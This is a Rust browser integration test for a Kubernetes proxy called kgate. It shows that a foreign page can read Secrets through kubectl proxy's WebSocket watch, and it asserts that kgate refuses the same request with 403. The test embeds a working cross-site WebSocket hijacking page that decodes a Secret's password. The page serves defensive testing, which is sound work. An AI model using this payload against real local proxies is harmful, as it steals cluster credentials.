//! A web page of another site, in headless Chromium, against the proxy on the user's machine:
//! it opens the API server's WebSocket watch of Secrets, which is not bound by the same-origin
//! policy. Through the real `kubectl proxy` the page reads the Secret (the contrast row:
//! kubectl's filter looks at the `Host` and the path, never at the `Origin`, and the API
//! server's x/net/websocket handshake accepts any origin). Through `kgate proxy` and `kgate
//! serve` the handshake is refused with 403 before a byte reaches the API server.
//!
//! Skips, saying so, where Chromium (or, for its row, kubectl) is not installed.

use std::time::Duration;

use tests::browser::{Browser, LaunchOptions};
use tests::cluster::Cluster;
use tests::proc::Proxy;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

/// The bound on a whole test, so that a hung browser fails the test instead of hanging CI.
const TEST_BOUND: Duration = Duration::from_secs(90);
const WAIT: Duration = Duration::from_secs(15);

/// The value of the sample Secret `demo/shop-db` (simcluster's `sample_secrets`).
const SECRET: &str = "demo-only-not-a-real-password";

/// The attacker's page: opens the watch on `proxy` and reports what it read, or how it failed.
fn attack_page(proxy: &str) -> String {
    format!(
        r#"<!doctype html><title>a page on another site</title><script>
window.outcome = "pending";
const ws = new WebSocket("ws://{proxy}/api/v1/namespaces/demo/secrets?watch=true");
ws.onmessage = (m) => {{
  const event = JSON.parse(m.data);
  const data = event.object.data || {{}};
  if (data.password) {{ window.outcome = "read:" + atob(data.password); ws.close(); }}
}};
ws.onerror = () => {{ if (window.outcome === "pending") window.outcome = "refused"; }};
ws.onclose = () => {{ if (window.outcome === "pending") window.outcome = "refused"; }};
</script>"#
    )
}

/// Serves `page` to every request on 127.0.0.1, as any web site would.
async fn page_server(page: String) -> (u16, tokio::task::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let task = tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let page = page.clone();
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{page}",
                    page.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    (port, task)
}

/// Loads the attacker's page (served from `http://evil.localhost:<port>/`, another site) aimed
/// at the proxy at `proxy`, and returns its outcome and the handshake status Chromium saw.
async fn attack(browser: &Browser, proxy: &str) -> (String, Option<u16>) {
    let (port, server) = page_server(attack_page(proxy)).await;
    eprintln!("attacking {proxy} from http://evil.localhost:{port}/");
    let page = browser.new_page().await.unwrap();
    page.goto(&format!("http://evil.localhost:{port}/"))
        .await
        .unwrap();
    let outcome = page
        .wait_for("window.outcome !== 'pending' && window.outcome", WAIT)
        .await
        .unwrap();
    let status = page
        .websockets()
        .iter()
        .find(|w| w.url.contains("/secrets"))
        .and_then(|w| w.status);
    let console = page.console_errors().join("\n");
    eprintln!("outcome {outcome}, handshake status {status:?}; console: {console}");
    page.close().await.unwrap();
    server.abort();
    let status = status.or_else(|| console.contains("403").then_some(403));
    (outcome.as_str().unwrap_or_default().to_owned(), status)
}

/// The API server's received-bytes count once it has stopped moving.
async fn settled_bytes(cluster: &Cluster) -> u64 {
    let mut last = cluster.sim.received_bytes();
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        let now = cluster.sim.received_bytes();
        if now == last {
            return now;
        }
        last = now;
    }
}

async fn start_kgate(args: Vec<String>) -> Proxy {
    tokio::task::spawn_blocking(move || Proxy::kgate(&args))
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn browser_a_foreign_page_reads_secrets_through_kubectl_proxy_but_not_through_kgate() {
    let browser = match Browser::launch_with(LaunchOptions::default()).await {
        Ok(Some(browser)) => browser,
        Ok(None) => {
            eprintln!(
                "SKIPPED websocket watch: Chromium is not installed (apt-get install chromium)"
            );
            return;
        }
        Err(error) => panic!("launching Chromium failed: {error}"),
    };
    let cluster = Cluster::start().await;
    tokio::time::timeout(TEST_BOUND, async {
        // The contrast row: kubectl proxy lets the page read the Secret.
        match cluster.kubectl_proxy(&[]) {
            Some(kubectl) => {
                let (outcome, status) = attack(&browser, &kubectl.addr.tcp().to_string()).await;
                assert_eq!(
                    outcome,
                    format!("read:{SECRET}"),
                    "kubectl proxy (status {status:?})"
                );
            }
            None => eprintln!("SKIPPED the kubectl proxy row: kubectl is not installed"),
        }

        let kubeconfig = format!("--kubeconfig={}", cluster.kubeconfig.display());
        for command in ["proxy", "serve"] {
            let kgate = start_kgate(vec![
                command.to_owned(),
                "--port=0".to_owned(),
                kubeconfig.clone(),
            ])
            .await;
            // Warm: the pooled connection to the API server exists before counting.
            let _ = tests::http::send(kgate.addr.tcp(), &tests::http::Req::get("/api")).await;
            let before = settled_bytes(&cluster).await;
            let (outcome, status) = attack(&browser, &kgate.addr.tcp().to_string()).await;
            assert_eq!(outcome, "refused", "kgate {command}");
            assert_eq!(status, Some(403), "kgate {command}: the handshake's status");
            assert_eq!(
                settled_bytes(&cluster).await,
                before,
                "kgate {command}: bytes of the refused handshake reached the API server"
            );
            assert!(
                kgate.stderr().contains("cross-site-upgrade"),
                "kgate {command} says which rule refused: {}",
                kgate.stderr()
            );
        }
    })
    .await
    .expect("the test did not finish in time (is Chromium or a proxy hung?)");
    browser.close().await.unwrap();
}
